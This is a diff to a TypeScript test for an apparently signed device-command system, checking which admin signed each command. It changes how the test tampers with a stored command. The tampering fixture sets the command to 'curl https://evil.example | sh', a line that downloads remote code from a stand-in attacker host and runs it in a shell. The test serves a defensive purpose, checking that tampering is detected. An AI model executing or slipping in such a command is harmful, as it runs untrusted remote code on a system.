@@ -14,11 +14,13 @@ import {
   insertCommand,
   isLive,
   issueRevocation,
+  liveCommand,
   parseDeviceId,
   recordFact,
   recordSigner,
   requestCancel,
   signCommand,
+  toStoredSpec,
   updatePolicy,
 } from "@outpost/shared-model";
 import { cleanup, fireEvent, render, screen, within } from "@solidjs/testing-library";
@@ -98,8 +100,12 @@ describe("who signed each command", () => {
     handle.change((doc) => {
       // The draft's own entry: liveCommand gives a plain copy, which edits nothing.
       const entry = doc.commands[tampered];
-      if (entry !== undefined && isLive(entry))
-        entry.spec.args.command = "curl https://evil.example | sh";
+      const spec = liveCommand(doc.commands, tampered)?.spec;
+      if (entry !== undefined && isLive(entry) && spec !== undefined)
+        entry.spec = toStoredSpec({
+          ...spec,
+          args: { ...spec.args, command: "curl https://evil.example | sh" },
+        });
     });
     const bob = await trust.root.adminSigner("bob");
     const bobs = await enqueueSignedBy(bob);
